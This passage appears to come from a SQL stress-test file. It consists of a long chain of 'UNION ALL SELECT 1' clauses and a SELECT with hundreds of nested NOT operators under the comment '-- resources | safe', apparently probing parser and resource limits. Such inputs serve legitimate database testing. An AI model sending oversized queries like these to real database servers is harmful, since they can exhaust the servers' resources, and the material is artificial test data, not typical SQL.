ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1

-- resources | safe
SELECT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT 